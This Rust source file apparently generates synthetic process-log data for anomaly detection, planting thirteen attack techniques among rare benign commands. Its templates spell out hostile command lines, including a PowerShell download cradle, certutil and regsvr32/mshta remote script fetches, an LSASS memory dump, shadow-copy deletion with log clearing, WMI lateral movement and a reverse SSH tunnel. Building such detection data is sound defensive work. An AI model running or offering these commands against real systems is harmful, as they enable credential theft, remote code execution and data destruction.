//! The planted processes, which an analyst would want to see among thousands of ordinary ones.
//!
//! They are techniques as reports describe them, with names, addresses and lengths of their own. Most of them show in
//! the shape of the command line. One kind, `lookalike_service`, does not, on purpose, since no feature finds everything.
//!
//! As many other rows are rare without being malicious, like an administrator's one-off command. In a real log most odd
//! events are of that sort.

use fastrand::Rng;

use super::templates::{CMD, EXPLORER, POWERSHELL, SERVICES, Session};
use super::world::{DOMAIN, Host, User};

/// A planted process.
#[derive(Debug)]
pub(super) struct Anomaly {
    pub(super) kind: &'static str,
    pub(super) path: String,
    pub(super) command_line: String,
    pub(super) parent: &'static str,
    pub(super) session: Session,
}

/// The number of kinds.
pub(super) const KINDS: usize = 13;

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";

/// The `number`th planted process. The kinds take turns.
#[expect(clippy::too_many_lines, reason = "a catalogue: one entry per kind")]
pub(super) fn anomaly(number: usize, host: &Host, user: &User, rng: &mut Rng) -> Anomaly {
    let system32 = |name: &str| format!(r"C:\Windows\System32\{name}");
    let user = user.name.as_str();
    let port = rng.u16(1024..);
    let ip = format!("203.0.113.{}", rng.u8(1..255));
    let (kind, parent, session, path, command_line) = match number % KINDS {
        0 => {
            let script = base64(rng.usize(1500..6000), rng);
            let line = format!("powershell.exe -nop -w hidden -enc {script}==");
            ("encoded_powershell", WORD, Session::User, POWERSHELL.to_string(), line)
        }
        1 => {
            let parts: Vec<String> = (0..rng.usize(8..40)).map(|_| format!("'{}'", word(4, rng))).collect();
            let line = format!(
                "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://{ip}:{port}/{}.ps1'); $x=@({})\"",
                word(8, rng),
                parts.join(",")
            );
            ("download_cradle", CMD, Session::User, POWERSHELL.to_string(), line)
        }
        2 => {
            let line = format!(
                r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {} C:\Windows\Temp\{}.dmp full",
                rng.u16(500..900),
                word(7, rng)
            );
            ("lsass_dump", POWERSHELL, Session::System, system32("rundll32.exe"), line)
        }
        3 => {
            let path = format!(r"C:\Users\Public\{}\svchost.exe", word_of(3..14, rng));
            let line = format!(
                "\"{path}\" -k netsvcs --pool {ip}:{port} --user {}.{} --quiet",
                word(6, rng),
                word(4, rng)
            );
            ("masquerade", EXPLORER, Session::User, path, line)
        }
        4 => {
            let line = format!(
                r"certutil.exe -urlcache -split -f http://{ip}:{port}/{}.exe C:\Users\{user}\AppData\Local\Temp\{}.exe",
                word(9, rng),
                word(6, rng)
            );
            ("certutil_download", CMD, Session::User, system32("certutil.exe"), line)
        }
        5 => {
            let line = format!(
                r#"wmic /node:"{ip}" /user:"{DOMAIN}\{user}" process call create "cmd.exe /c \\{}\ADMIN$\{}.exe -i {}""#,
                host.name,
                word(8, rng),
                word(4, rng)
            );
            ("wmi_lateral_movement", CMD, Session::User, system32(r"wbem\WMIC.exe"), line)
        }
        6 => {
            let line = format!(
                r#"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {} /t REG_SZ /d "C:\Users\{user}\AppData\Roaming\{}\{}.exe" /f"#,
                word(8, rng),
                word(6, rng),
                word(6, rng)
            );
            ("run_key", CMD, Session::User, system32("reg.exe"), line)
        }
        7 => {
            let line =
                "cmd.exe /c vssadmin.exe delete shadows /all /quiet & wbadmin delete catalog -quiet & \
                        bcdedit /set {default} recoveryenabled no & wevtutil cl Security"
                    .to_string();
            ("shadow_copy_deletion", SERVICES, Session::System, CMD.to_string(), line)
        }
        8 => {
            let pieces: Vec<String> = (0..rng.usize(30..400)).map(|_| word(2, rng)).collect();
            let line = format!("cmd.exe /v /c s^e^t x=p^o^w&&c^a^l^l %x:~0,3%\"{}\"", pieces.join("','"));
            ("obfuscated_cmd", EXPLORER, Session::User, CMD.to_string(), line)
        }
        9 => {
            let line = format!("regsvr32.exe /s /n /u /i:http://{ip}:{port}/{}.sct scrobj.dll", word(7, rng));
            ("regsvr32_scriptlet", CMD, Session::User, system32("regsvr32.exe"), line)
        }
        10 => {
            let line = format!(
                "mshta.exe javascript:a=GetObject(\"script:http://{ip}/{}/{}.sct\").Exec();close();",
                word(5, rng),
                word(6, rng)
            );
            ("mshta_script", WORD, Session::User, system32("mshta.exe"), line)
        }
        11 => {
            let path = format!(r"C:\Users\Public\{}\plink.exe", word_of(4..12, rng));
            let line = format!(
                "plink.exe -ssh -l {} -pw {}.{} -batch -R 3389:127.0.0.1:3389 {ip} -P {port}",
                word(5, rng),
                word(6, rng),
                word(3, rng)
            );
            ("ssh_tunnel", CMD, Session::System, path, line)
        }
        _ => {
            let line = r"C:\Windows\system32\svch0st.exe -k netsvcs -p -s BITS".to_string();
            ("lookalike_service", SERVICES, Session::System, system32("svch0st.exe"), line)
        }
    };
    Anomaly { kind, path, command_line, parent, session }
}

/// A rare command of everyday work, with a random number of arguments.
pub(super) fn one_off(user: &User, rng: &mut Rng) -> (String, String) {
    let system32 = |name: &str| format!(r"C:\Windows\System32\{name}");
    let count = rng.usize(3..24);
    let words = |separator: &str, prefix: &str, rng: &mut Rng| {
        let words: Vec<String> = (0..count).map(|_| format!("{prefix}{}", word_of(3..9, rng))).collect();
        words.join(separator)
    };
    match rng.u8(..4) {
        0 => {
            let properties = words("=1 ", "", rng).to_uppercase();
            let package = format!(r"C:\Users\{}\Downloads\{}-{}.msi", user.name, word(6, rng), rng.u8(1..20));
            (system32("msiexec.exe"), format!("msiexec.exe /i \"{package}\" /qn /norestart {properties}=1"))
        }
        1 => {
            let folders = words(" /XD ", "", rng);
            (
                system32("robocopy.exe"),
                format!(r"robocopy.exe C:\data D:\archive /MIR /R:3 /W:5 /XD {folders}"),
            )
        }
        2 => {
            let properties = words(", ", "", rng);
            let line = format!(
                r#"powershell.exe -Command "Get-ADUser -Filter * | Select-Object {properties} | Export-Csv C:\temp\users.csv""#
            );
            (POWERSHELL.to_string(), line)
        }
        _ => {
            let options = words(" 1 ", "--", rng);
            let path = r"C:\Program Files\Python311\python.exe".to_string();
            (path, format!(r"python.exe C:\src\{}\train.py {options} 1", word(5, rng)))
        }
    }
}

fn word(length: usize, rng: &mut Rng) -> String {
    std::iter::repeat_with(|| rng.lowercase()).take(length).collect()
}

fn word_of(length: std::ops::Range<usize>, rng: &mut Rng) -> String {
    let length = rng.usize(length);
    word(length, rng)
}

fn base64(length: usize, rng: &mut Rng) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::iter::repeat_with(|| char::from(DIGITS[rng.usize(..64)])).take(length).collect()
}

#[cfg(test)]
mod tests {
    use super::super::world::World;
    use super::*;

    #[test]
    fn kinds_take_turns() {
        let world = World::new(1, 1000);
        let mut rng = Rng::with_seed(1);
        let kinds: std::collections::BTreeSet<_> = (0..KINDS)
            .map(|number| anomaly(number, &world.hosts[0], &world.users[0], &mut rng).kind)
            .collect();
        assert_eq!(kinds.len(), KINDS);
    }
}
